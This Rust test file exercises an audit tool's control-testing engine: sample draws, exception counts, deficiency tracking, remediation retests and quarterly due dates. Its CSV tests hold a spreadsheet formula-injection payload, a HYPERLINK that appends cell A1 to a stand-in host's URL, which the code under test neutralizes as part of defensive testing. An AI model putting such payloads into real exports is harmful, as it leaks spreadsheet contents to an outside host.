//! Engagements over a reconciliation: populations per control, seeded samples, results
//! reperformed from the reconciliation's evidence, exceptions rolled up, deficiencies.

mod common;

use common::{deployment, report, reviewed, row};

use audit::catalog::{Catalog, Tailoring};
use audit::deficiency::{Significance, Status};
use audit::engagement::{
    csv_field, run, samples_csv, summary, Conclusion, Deficiency, DeficiencyKind, Plan,
};
use audit::sampling::Sampling;
use audit::{AttributeResult, Report, Verdict, VerdictRow};

/// 100 commits: every tenth unauthorized, every seventh unreviewed; plus two deployments.
fn period() -> Report {
    let mut events = Vec::new();
    for i in 0..100 {
        let id = format!("{i:040x}");
        if i % 10 == 0 {
            events.push(row(&id, Verdict::Unauthorized, vec![]));
        } else {
            events.push(reviewed(&id, i % 7 != 0));
        }
    }
    events.push(deployment("run-1"));
    events.push(deployment("run-2"));
    report(events)
}

fn plan<'a>(catalog: &'a Catalog, sampling: &'a Sampling, seed: u64) -> Plan<'a> {
    Plan {
        period: ("2026-05-01".into(), "2026-05-31".into()),
        seed,
        catalog,
        sampling,
        as_of: "2026-06-15T00:00:00Z".into(),
        sources: vec!["git main of acme/payments".into()],
    }
}

fn control<'a>(
    e: &'a audit::engagement::Engagement,
    id: &str,
) -> &'a audit::engagement::ControlTest {
    e.controls.iter().find(|c| c.control == id).unwrap()
}

#[test]
fn populations_follow_the_attributes_that_apply() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let r = period();
    let e = run(&plan(&catalog, &sampling, 42), &r, &[], &[], &[]).unwrap();

    // Every production change is in the population of the reconciliation control.
    let recon = control(&e, "CM-16");
    assert_eq!(recon.population.count, 102);
    // Peer review: commits only, unauthorized ones failing for want of a record.
    let review = control(&e, "CM-06");
    assert_eq!(review.population.count, 100);
    assert!(review
        .population
        .items
        .iter()
        .all(|i| !i.starts_with("deployment:")));
    // Deployment approval by the CAB: only deployments carry one.
    let deploy = control(&e, "CM-08");
    assert_eq!(
        deploy.population.items,
        vec!["deployment:payments/run-1", "deployment:payments/run-2"]
    );
    // No emergency in the period: the emergency control has nothing to test.
    let emergency = control(&e, "CM-18");
    assert_eq!(
        (emergency.population.count, emergency.conclusion),
        (0, Conclusion::NotTested)
    );
    // A manual control waits for manual results.
    let policy = control(&e, "CM-01");
    assert_eq!(policy.conclusion, Conclusion::NotTested);
    assert!(policy.note.as_deref().unwrap().contains("manual"));
}

#[test]
fn the_commit_population_ties_to_the_reconciliation() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let commits: Vec<VerdictRow> = (0..30)
        .map(|i| reviewed(&format!("{i:040x}"), true))
        .collect();
    let r = report(commits);
    let e = run(&plan(&catalog, &sampling, 1), &r, &[], &[], &[]).unwrap();
    let recon = control(&e, "CM-16");
    assert_eq!(recon.population.count, r.population.count);
    assert_eq!(recon.population.sha256, r.population.sha256);
}

#[test]
fn exceptions_are_counted_over_the_population_and_judged_on_the_sample() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let e = run(&plan(&catalog, &sampling, 42), &period(), &[], &[], &[]).unwrap();
    let review = control(&e, "CM-06");
    // 10 unauthorized; unreviewed: multiples of 7 that are not multiples of 10 (0..100).
    let unreviewed = (1..100).filter(|i| i % 7 == 0 && i % 10 != 0).count() as u64;
    assert_eq!(review.exceptions_by_code["no_change_record"], 10);
    assert_eq!(
        review.exceptions_by_code["no_independent_review"],
        unreviewed
    );
    assert_eq!(review.sample.len(), 25, "per-change, lower risk: 25");
    let failed_in_sample = review
        .sample
        .iter()
        .filter(|d| {
            review
                .results
                .iter()
                .any(|r| r.item == d.item && r.result == AttributeResult::Fail)
        })
        .count() as u64;
    assert_eq!(review.exceptions, failed_in_sample);
    assert!(
        review.exceptions > 1,
        "a 25-item sample of this population finds exceptions"
    );
    assert_eq!(review.conclusion, Conclusion::Deficient);
    let raised = e
        .deficiencies
        .iter()
        .find(|d| d.subject == "CM-06")
        .unwrap();
    assert_eq!(raised.kind, DeficiencyKind::OperatingEffectiveness);
    assert_eq!(raised.items.len() as u64, review.exceptions);
    // A control whose sample has no failure is effective.
    assert_eq!(control(&e, "CM-08").conclusion, Conclusion::Effective);
}

#[test]
fn the_same_seed_gives_the_same_workpapers_and_another_seed_other_samples() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let r = period();
    let a = run(&plan(&catalog, &sampling, 7), &r, &[], &[], &[]).unwrap();
    let b = run(&plan(&catalog, &sampling, 7), &r, &[], &[], &[]).unwrap();
    assert_eq!(samples_csv(&a), samples_csv(&b));
    assert_eq!(summary(&a), summary(&b));
    let c = run(&plan(&catalog, &sampling, 8), &r, &[], &[], &[]).unwrap();
    assert_ne!(samples_csv(&a), samples_csv(&c));
    let csv = samples_csv(&a);
    assert!(csv.starts_with("control,item,population,seed,rank\n"));
    let cm06_rows = csv.lines().filter(|l| l.starts_with("CM-06,")).count();
    assert_eq!(cm06_rows, 25);
    assert!(csv
        .lines()
        .filter(|l| l.starts_with("CM-06,"))
        .all(|l| l.contains(",100,7,")));
}

#[test]
fn summary_lists_every_control_with_its_counts() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let e = run(&plan(&catalog, &sampling, 42), &period(), &[], &[], &[]).unwrap();
    let s = summary(&e);
    let controls = s["controls"].as_array().unwrap();
    assert_eq!(controls.len(), catalog.controls.len());
    let cm16 = controls.iter().find(|c| c["id"] == "CM-16").unwrap();
    assert_eq!(cm16["population"], 102);
    assert_eq!(cm16["exceptions_by_code"]["no_change_record"], 10);
    assert!(cm16["sample"].as_u64().unwrap() > 0);
    assert!(cm16.get("exceptions").is_some());
}

#[test]
fn a_disabled_control_leaves_its_risk_as_a_design_deficiency() {
    let t = Tailoring {
        disabled: vec!["CM-18".into()],
        ..Tailoring::default()
    };
    let catalog = Catalog::default().tailored(&t).unwrap();
    let sampling = Sampling::default();
    let e = run(&plan(&catalog, &sampling, 42), &period(), &[], &[], &[]).unwrap();
    assert_eq!(control(&e, "CM-18").conclusion, Conclusion::Disabled);
    let design: Vec<_> = e
        .deficiencies
        .iter()
        .filter(|d| d.kind == DeficiencyKind::Design)
        .collect();
    assert_eq!(design.len(), 1);
    assert_eq!(design[0].subject, "R16");
    assert_eq!(design[0].id, "R16:design");
}

/// BR-32: titles that are formulas, a leading tab, a leading minus, and text in other
/// scripts, exported to CSV for a spreadsheet.
#[test]
fn csv_text_cells_are_neutralized_and_other_scripts_kept() {
    assert_eq!(
        csv_field("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""
    );
    assert_eq!(csv_field("\t=1+1"), "'\t=1+1");
    assert_eq!(csv_field("-rollback db index"), "'-rollback db index");
    assert_eq!(csv_field("\n=1+1"), "\"'\n=1+1\"");
    assert_eq!(csv_field("\r=1+1"), "\"'\r=1+1\"");
    assert_eq!(
        csv_field("Änderung – Übernahme Лог"),
        "Änderung – Übernahme Лог"
    );
    assert_eq!(audit::engagement::CSV_BOM.as_bytes(), b"\xEF\xBB\xBF");
}

#[test]
fn csv_cells_never_start_a_formula() {
    assert_eq!(csv_field("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
    assert_eq!(csv_field("+1"), "'+1");
    assert_eq!(csv_field("-2"), "'-2");
    assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
    assert_eq!(csv_field("a,b"), "\"a,b\"");
    assert_eq!(csv_field("CHG-000001"), "CHG-000001");
}

fn manual(
    control: &str,
    item: &str,
    result: AttributeResult,
    at: &str,
) -> audit::engagement::ManualResult {
    audit::engagement::ManualResult {
        control: control.into(),
        item: item.into(),
        attribute: "performed".into(),
        result,
        method: audit::engagement::Method::Inspection,
        evidence: "minutes of the review meeting".into(),
        note: None,
        performed_at: at.into(),
        recorded_by: "olivia".into(),
        recorded_at: "2026-01-01T00:00:00Z".into(),
        recorded_as: audit::engagement::RecordedAs::Auditor,
    }
}

#[test]
fn manual_controls_are_tested_on_what_was_recorded_and_overdue_when_missing() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let mut p = plan(&catalog, &sampling, 3);
    p.period = ("2026-01-01T00:00:00Z".into(), "2026-12-31T23:59:59Z".into());
    p.as_of = "2027-01-10T00:00:00Z".into();
    let r = period();

    // Nothing recorded: the annual policy review is overdue, and that is an exception.
    let e = run(&p, &r, &[], &[], &[]).unwrap();
    let policy = control(&e, "CM-01");
    assert_eq!(policy.population.count, 0);
    assert_eq!(policy.exceptions, 1);
    assert_eq!(policy.exceptions_by_code["manual_control_overdue"], 1);
    assert_eq!(policy.conclusion, Conclusion::Deficient);

    // Reviewed once in the year: effective. The quarterly access review recorded twice is
    // overdue (four due), and its failed review counts too.
    let recorded = vec![
        manual(
            "CM-01",
            "policy-2026",
            AttributeResult::Pass,
            "2026-03-10T10:00:00Z",
        ),
        manual(
            "CM-14",
            "access-q1",
            AttributeResult::Pass,
            "2026-03-31T10:00:00Z",
        ),
        manual(
            "CM-14",
            "access-q2",
            AttributeResult::Fail,
            "2026-06-30T10:00:00Z",
        ),
        // Outside the period: does not count as a performance.
        manual(
            "CM-14",
            "access-2025-q4",
            AttributeResult::Pass,
            "2025-12-31T10:00:00Z",
        ),
    ];
    let e = run(&p, &r, &[], &recorded, &[]).unwrap();
    let policy = control(&e, "CM-01");
    assert_eq!((policy.population.count, policy.exceptions), (1, 0));
    assert_eq!(policy.conclusion, Conclusion::Effective);
    assert_eq!(
        policy.results[0].method,
        audit::engagement::Method::Inspection
    );
    assert!(policy.results[0].evidence.contains("recorded by olivia"));
    let access = control(&e, "CM-14");
    assert_eq!(access.exceptions_by_code["manual_control_overdue"], 1);
    assert_eq!(access.exceptions_by_code["performed_failed"], 1);
    assert!(
        access
            .note
            .as_deref()
            .unwrap()
            .contains("4 performance(s) due"),
        "{:?}",
        access.note
    );
    assert_eq!(access.conclusion, Conclusion::Deficient);
    assert!(access
        .note
        .as_deref()
        .unwrap()
        .contains("none recorded in 2 of its parts"));
    // Every result recorded in the period is tested; the one from 2025 is not.
    assert_eq!(access.sample.len(), 2);
    assert!(access.results.iter().all(|r| r.item != "access-2025-q4"));

    // Four reviews bunched in one month leave three quarters without one.
    let bunched: Vec<_> = (0..4)
        .map(|i| {
            let at = format!("2026-08-1{i}T10:00:00Z");
            manual("CM-14", &format!("access-{i}"), AttributeResult::Pass, &at)
        })
        .collect();
    let e = run(&p, &r, &[], &bunched, &[]).unwrap();
    let access = control(&e, "CM-14");
    assert_eq!(access.exceptions_by_code["manual_control_overdue"], 1);
    assert!(access.note.as_deref().unwrap().contains("3 of its parts"));
    assert_eq!(access.conclusion, Conclusion::Deficient);
    // One in each quarter: effective.
    let spread: Vec<_> = ["02", "05", "08", "11"]
        .iter()
        .map(|m| {
            let at = format!("2026-{m}-15T10:00:00Z");
            manual("CM-14", &format!("access-{m}"), AttributeResult::Pass, &at)
        })
        .collect();
    let e = run(&p, &r, &[], &spread, &[]).unwrap();
    assert_eq!(control(&e, "CM-14").conclusion, Conclusion::Effective);
}

/// 60 commits over May, one a day at two per day: those before the 16th unreviewed every
/// third, those from the 16th all reviewed, or (with `still_failing`) unreviewed as before.
fn remediation_period(still_failing: bool) -> Report {
    let rows = (0..60)
        .map(|i| {
            let day = 1 + i / 2;
            let fails = i % 3 == 0 && (day < 16 || still_failing);
            let mut r = reviewed(&format!("{i:040x}"), !fails);
            r.at = format!("2026-05-{day:02}T{:02}:00:00Z", 9 + i % 2);
            r
        })
        .collect();
    report(rows)
}

fn update(
    id: &str,
    by: &str,
    f: impl FnOnce(&mut audit::deficiency::DeficiencyUpdate),
) -> audit::deficiency::DeficiencyUpdate {
    let mut u = audit::deficiency::DeficiencyUpdate {
        deficiency: id.into(),
        from: "2026-05-01T00:00:00Z".into(),
        to: "2026-05-31T23:59:59Z".into(),
        significance: None,
        rationale: None,
        management_response: None,
        owner: None,
        remediation_due: None,
        remediated_at: None,
        remediation: None,
        recorded_by: by.into(),
        recorded_at: "2026-06-01T09:00:00Z".into(),
    };
    f(&mut u);
    u
}

fn may_plan<'a>(catalog: &'a Catalog, sampling: &'a Sampling) -> Plan<'a> {
    let mut p = plan(catalog, sampling, 42);
    p.period = ("2026-05-01T00:00:00Z".into(), "2026-05-31T23:59:59Z".into());
    p
}

fn deficiency<'e>(e: &'e audit::engagement::Engagement, id: &str) -> &'e Deficiency {
    e.deficiencies
        .iter()
        .find(|d| d.id == id)
        .unwrap_or_else(|| panic!("no deficiency {id}"))
}

#[test]
fn a_deficiency_carries_its_assessment_and_managements_response() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let p = may_plan(&catalog, &sampling);
    let r = remediation_period(false);

    let e = run(&p, &r, &[], &[], &[]).unwrap();
    let d = deficiency(&e, "CM-06:operating");
    assert_eq!(d.status, Status::Open);
    assert!(d.significance.is_none() && d.retest.is_none());
    assert!(!d.items.is_empty());

    let updates = vec![
        update("CM-06:operating", "ava", |u| {
            u.significance = Some(Significance::Deficiency);
            u.rationale = Some("one repository, no customer impact".into());
        }),
        update("CM-06:operating", "carol", |u| {
            u.management_response = Some("branch protection on every repository".into());
            u.owner = Some("carol".into());
            u.remediation_due = Some("2026-06-30T23:59:59Z".into());
        }),
        // The auditor revises the significance: the later value holds.
        update("CM-06:operating", "ava", |u| {
            u.significance = Some(Significance::SignificantDeficiency);
        }),
        // About another period: not this engagement's.
        update("CM-06:operating", "ava", |u| {
            u.from = "2026-04-01T00:00:00Z".into();
            u.significance = Some(Significance::MaterialWeakness);
        }),
        // About a deficiency this engagement did not raise.
        update("CM-08:operating", "ava", |u| {
            u.significance = Some(Significance::Deficiency);
        }),
    ];
    let e = run(&p, &r, &[], &[], &updates).unwrap();
    let d = deficiency(&e, "CM-06:operating");
    assert_eq!(d.significance, Some(Significance::SignificantDeficiency));
    assert_eq!(
        d.rationale.as_deref(),
        Some("one repository, no customer impact")
    );
    assert_eq!(d.owner.as_deref(), Some("carol"));
    assert_eq!(d.status, Status::RemediationPlanned);
    assert_eq!(d.history.len(), 3, "{:?}", d.history);
    assert!(d.history[1].contains("by carol"));
    let unused = audit::engagement::unused_updates(&e, &updates);
    assert_eq!(unused.len(), 1);
    assert_eq!(unused[0].deficiency, "CM-08:operating");

    // Judged after the due date with no remediation: overdue.
    let mut late = may_plan(&catalog, &sampling);
    late.as_of = "2026-07-02T00:00:00Z".into();
    let e = run(&late, &r, &[], &[], &updates).unwrap();
    assert_eq!(
        deficiency(&e, "CM-06:operating").status,
        Status::RemediationOverdue
    );
}

#[test]
fn a_remediated_control_is_retested_on_what_happened_after_the_remediation() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let p = may_plan(&catalog, &sampling);
    let remediated = |at: &str| {
        vec![update("CM-06:operating", "carol", |u| {
            u.management_response = Some("required reviews enforced".into());
            u.remediated_at = Some(at.into());
            u.remediation = Some("branch protection turned on".into());
        })]
    };

    // Fixed on the 16th: the 30 commits from then on are the retest population, all pass.
    let r = remediation_period(false);
    let updates = remediated("2026-05-16T00:00:00Z");
    let e = run(&p, &r, &[], &[], &updates).unwrap();
    let first = control(&e, "CM-06");
    assert_eq!(first.conclusion, Conclusion::Deficient);
    let d = deficiency(&e, "CM-06:operating");
    let retest = d.retest.as_ref().expect("a retest");
    assert_eq!(retest.from, "2026-05-16T00:00:00Z");
    assert_eq!(retest.population.count, 30);
    assert!(retest
        .population
        .items
        .iter()
        .all(|i| i.as_str() >= "000000000000000000000000000000000000001e"));
    assert_eq!(retest.sample.len(), 25);
    assert_eq!(retest.exceptions, 0);
    assert_eq!(retest.conclusion, Conclusion::Effective);
    assert_eq!(d.status, Status::Remediated);
    assert!(samples_csv(&e).contains("\nCM-06/retest,"));
    // Its draw is the documented one, keyed `CM-06/retest`.
    let again = audit::sampling::draw(42, "CM-06/retest", &retest.population.items, 25).unwrap();
    assert_eq!(again, retest.sample);
    assert_ne!(
        first.sample[..5]
            .iter()
            .map(|d| &d.item)
            .collect::<Vec<_>>(),
        retest.sample[..5]
            .iter()
            .map(|d| &d.item)
            .collect::<Vec<_>>()
    );
    // The engagement's first conclusion stands: a retest does not rewrite history.
    assert_eq!(first.exceptions_by_code["no_independent_review"], 10);

    // The same remediation while commits still go unreviewed: the retest fails.
    let e = run(&p, &remediation_period(true), &[], &[], &updates).unwrap();
    let d = deficiency(&e, "CM-06:operating");
    assert!(d.retest.as_ref().unwrap().exceptions > 0);
    assert_eq!(d.status, Status::RemediationFailed);

    // A remediation claimed before failures the first sample found: those failures are
    // deviations after it, whatever the retest draws.
    let claimed = remediated("2026-05-10T00:00:00Z");
    let e = run(&p, &r, &[], &[], &claimed).unwrap();
    assert_eq!(
        deficiency(&e, "CM-06:operating").status,
        Status::RemediationFailed
    );
    // Over seeds, a retest that draws none of them still carries them.
    let carried = (1..100)
        .find_map(|seed| {
            let mut p = may_plan(&catalog, &sampling);
            p.seed = seed;
            let e = run(&p, &r, &[], &[], &claimed).unwrap();
            let d = deficiency(&e, "CM-06:operating").clone();
            let retest = d.retest.clone().unwrap();
            (!retest.known_deviations.is_empty()).then_some((d, retest))
        })
        .expect("a seed whose retest misses a known deviation");
    let (d, retest) = carried;
    for item in &retest.known_deviations {
        assert!(!retest.sample.iter().any(|s| &s.item == item));
        assert!(retest
            .results
            .iter()
            .any(|x| &x.item == item && x.result == AttributeResult::Fail));
    }
    assert_eq!(d.status, Status::RemediationFailed);

    // Remediated after the period ends: nothing to retest yet.
    let e = run(&p, &r, &[], &[], &remediated("2026-06-10T00:00:00Z")).unwrap();
    let d = deficiency(&e, "CM-06:operating");
    assert_eq!(d.retest.as_ref().unwrap().population.count, 0);
    assert_eq!(d.status, Status::AwaitingRetest);
}

#[test]
fn an_overdue_manual_control_is_retested_on_the_performances_after_its_remediation() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let mut p = plan(&catalog, &sampling, 3);
    p.period = ("2026-01-01T00:00:00Z".into(), "2026-12-31T23:59:59Z".into());
    p.as_of = "2027-01-10T00:00:00Z".into();
    // The quarterly access review was skipped in the first half, then resumed.
    let recorded = vec![
        manual("CM-14", "q3", AttributeResult::Pass, "2026-08-15T10:00:00Z"),
        manual("CM-14", "q4", AttributeResult::Pass, "2026-11-15T10:00:00Z"),
    ];
    let updates = vec![update("CM-14:operating", "carol", |u| {
        u.from = "2026-01-01".into();
        u.to = "2026-12-31".into();
        u.remediated_at = Some("2026-07-01T00:00:00Z".into());
    })];
    let e = run(&p, &period(), &[], &recorded, &updates).unwrap();
    assert_eq!(control(&e, "CM-14").conclusion, Conclusion::Deficient);
    let d = deficiency(&e, "CM-14:operating");
    assert!(d.description.contains("none recorded in 2 of its parts"));
    let retest = d.retest.as_ref().unwrap();
    assert_eq!(retest.population.items, ["q3", "q4"]);
    assert_eq!(d.status, Status::Remediated);
}

#[test]
fn an_attribute_plan_allowing_no_deviation_fails_on_one() {
    let catalog = Catalog::default();
    let mut sampling = Sampling::default();
    sampling.attribute_sampling.insert(
        "CM-06".into(),
        audit::sampling::AttributePlan {
            confidence: 0.95,
            tolerable: 0.05,
            expected: 0.0,
        },
    );
    // 500 commits, every fiftieth unreviewed: 2 % of the population deviates.
    let rows: Vec<VerdictRow> = (0..500)
        .map(|i| reviewed(&format!("{i:040x}"), i % 50 != 0))
        .collect();
    let r = report(rows);
    let (seed, t) = (1..200)
        .find_map(|seed| {
            let e = run(&plan(&catalog, &sampling, seed), &r, &[], &[], &[]).unwrap();
            let t = control(&e, "CM-06").clone();
            (t.exceptions == 1).then_some((seed, t))
        })
        .expect("a seed whose sample holds one deviation");
    assert_eq!(t.sample.len(), 59);
    assert!(t.deviation_rate < 0.05, "seed {seed}: {}", t.deviation_rate);
    assert_eq!(t.conclusion, Conclusion::Deficient, "seed {seed}");

    // Without the plan, the same deviation rate is within the tolerable rate.
    let plain = Sampling::default();
    let e = run(&plan(&catalog, &plain, seed), &r, &[], &[], &[]).unwrap();
    let t = control(&e, "CM-06");
    if t.exceptions == 1 {
        assert_eq!(t.conclusion, Conclusion::Effective);
    }
}

#[test]
fn periods_that_follow_each_other_leave_no_gap_at_a_fraction_of_a_second() {
    use audit::engagement::{period_bound, within};
    let at = |t: &str| domain::action::parse_instant("t", t).unwrap();
    let q3 = (
        period_bound("from", "2026-07-01", false).unwrap(),
        period_bound("to", "2026-09-30", true).unwrap(),
    );
    let q4 = (
        period_bound("from", "2026-10-01", false).unwrap(),
        period_bound("to", "2026-12-31", true).unwrap(),
    );
    for t in ["2026-09-30T23:59:59.5Z", "2026-09-30T23:59:59.999999999Z"] {
        assert!(within(at(t), q3.0, q3.1), "{t}");
        assert!(!within(at(t), q4.0, q4.1), "{t}");
    }
    assert!(within(at("2026-10-01T00:00:00Z"), q4.0, q4.1));
    // A period written to the millisecond is the same period.
    let u = update("CM-06:operating", "ava", |u| {
        u.to = "2026-05-31T23:59:59.999Z".into();
        u.from = "2026-05-01T00:00:00.000000001Z".into();
    });
    assert!(audit::deficiency::same_period(
        &u,
        &("2026-05-01".into(), "2026-05-31".into())
    ));
}

#[test]
fn management_records_performances_and_only_an_auditors_test_concludes() {
    use audit::engagement::RecordedAs;
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let mut p = plan(&catalog, &sampling, 3);
    p.period = ("2026-01-01T00:00:00Z".into(), "2026-12-31T23:59:59Z".into());
    p.as_of = "2027-01-10T00:00:00Z".into();
    let by_management = |mut m: audit::engagement::ManualResult| {
        m.recorded_by = "frank".into();
        m.recorded_as = RecordedAs::Management;
        m
    };
    let review = manual(
        "CM-01",
        "policy-2026",
        AttributeResult::Pass,
        "2026-03-10T10:00:00Z",
    );

    // The control owner's own record: performed, not yet tested.
    let e = run(&p, &period(), &[], &[by_management(review.clone())], &[]).unwrap();
    let policy = control(&e, "CM-01");
    assert_eq!(policy.conclusion, Conclusion::NotTested);
    assert!(policy.note.as_deref().unwrap().contains("management only"));
    assert!(policy.results[0].evidence.contains("management"));
    // The auditor's inspection concludes.
    let e = run(
        &p,
        &period(),
        &[],
        &[by_management(review.clone()), review.clone()],
        &[],
    )
    .unwrap();
    assert_eq!(control(&e, "CM-01").conclusion, Conclusion::Effective);

    // "Not applicable" is no performance: the annual review is still overdue.
    let na = manual(
        "CM-01",
        "policy-2026",
        AttributeResult::NotApplicable,
        "2026-03-10T10:00:00Z",
    );
    let e = run(&p, &period(), &[], &[na], &[]).unwrap();
    let policy = control(&e, "CM-01");
    assert_eq!(policy.exceptions_by_code["manual_control_overdue"], 1);

    // Judged mid-year, only the quarters already over can be overdue.
    p.as_of = "2026-05-01T00:00:00Z".into();
    let q1 = manual(
        "CM-14",
        "access-q1",
        AttributeResult::Pass,
        "2026-02-15T10:00:00Z",
    );
    let e = run(&p, &period(), &[], &[q1], &[]).unwrap();
    assert_eq!(control(&e, "CM-14").conclusion, Conclusion::Effective);
    let e = run(&p, &period(), &[], &[], &[]).unwrap();
    let access = control(&e, "CM-14");
    assert!(
        access
            .note
            .as_deref()
            .unwrap()
            .contains("none recorded in 1 of its parts"),
        "{:?}",
        access.note
    );
}

#[test]
fn deviation_rates_read_back_from_json_exactly() {
    // Rates such as 4/26 came back one unit off in the last place without exact float
    // parsing, and a package then failed its own reperformance.
    for (k, n) in [(4u32, 26u32), (3, 26), (1, 23), (4, 25), (7, 59), (1, 3)] {
        let rate = f64::from(k) / f64::from(n);
        let text = serde_json::to_string(&rate).unwrap();
        let back: f64 = serde_json::from_str(&text).unwrap();
        assert_eq!(back.to_bits(), rate.to_bits(), "{k}/{n}: {text}");
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(value, serde_json::json!(rate), "{k}/{n}");
    }
}

#[test]
fn calendar_controls_are_due_in_each_calendar_quarter_not_in_equal_slices() {
    let catalog = Catalog::default();
    let sampling = Sampling::default();
    let mut p = plan(&catalog, &sampling, 3);
    p.period = ("2026-01-01T00:00:00Z".into(), "2026-12-31T23:59:59Z".into());
    p.as_of = "2027-01-10T00:00:00Z".into();
    // 31 March, 1 July, 1 October, 1 December: nothing in April, May or June.
    let reviews: Vec<_> = [
        "2026-03-31T10:00:00Z",
        "2026-07-01T10:00:00Z",
        "2026-10-01T10:00:00Z",
        "2026-12-01T10:00:00Z",
    ]
    .iter()
    .enumerate()
    .map(|(i, at)| manual("CM-14", &format!("review-{i}"), AttributeResult::Pass, at))
    .collect();
    let e = run(&p, &period(), &[], &reviews, &[]).unwrap();
    let access = control(&e, "CM-14");
    assert_eq!(access.conclusion, Conclusion::Deficient);
    let note = access.note.as_deref().unwrap();
    assert!(
        note.contains("2026-04-01T00:00:00Z to 2026-06-30T23:59:59Z"),
        "{note}"
    );

    // A period that starts mid-quarter: only the quarters wholly inside it are due.
    p.period = ("2026-02-15T00:00:00Z".into(), "2026-09-30T23:59:59Z".into());
    let q2q3: Vec<_> = ["2026-05-10T10:00:00Z", "2026-08-10T10:00:00Z"]
        .iter()
        .map(|at| manual("CM-14", at, AttributeResult::Pass, at))
        .collect();
    let e = run(&p, &period(), &[], &q2q3, &[]).unwrap();
    assert_eq!(control(&e, "CM-14").conclusion, Conclusion::Effective);
    // A monthly control's months are calendar months.
    let tailoring = Tailoring {
        changed: [(
            "CM-14".to_string(),
            audit::catalog::ControlChange {
                frequency: Some(audit::sampling::Frequency::Monthly),
                ..Default::default()
            },
        )]
        .into_iter()
        .collect(),
        ..Tailoring::default()
    };
    let monthly = Catalog::default().tailored(&tailoring).unwrap();
    let mut p = plan(&monthly, &sampling, 3);
    p.period = ("2026-08-01T00:00:00Z".into(), "2026-09-30T23:59:59Z".into());
    p.as_of = "2027-01-10T00:00:00Z".into();
    let august = [manual(
        "CM-14",
        "aug",
        AttributeResult::Pass,
        "2026-08-31T23:59:59Z",
    )];
    let e = run(&p, &period(), &[], &august, &[]).unwrap();
    let note = control(&e, "CM-14").note.clone().unwrap();
    assert!(
        note.contains("2 performance(s) due")
            && note.contains("2026-09-01T00:00:00Z to 2026-09-30T23:59:59Z"),
        "{note}"
    );
}

#[test]
fn results_recorded_for_controls_decided_otherwise_are_warned_about() {
    let catalog = Catalog::default();
    let at = "2026-05-10T10:00:00Z";
    let warned = |id: &str| {
        !audit::engagement::manual_warnings(&catalog, &[manual(id, "x", AttributeResult::Fail, at)])
            .is_empty()
    };
    // Decided by the change records, by the reconciliation, or no such control.
    for id in ["CM-05", "CM-07", "CM-16", "CM-99"] {
        assert!(warned(id), "{id}");
    }
    // Tested on what is recorded by hand.
    for id in ["CM-01", "CM-14"] {
        assert!(!warned(id), "{id}");
    }
}
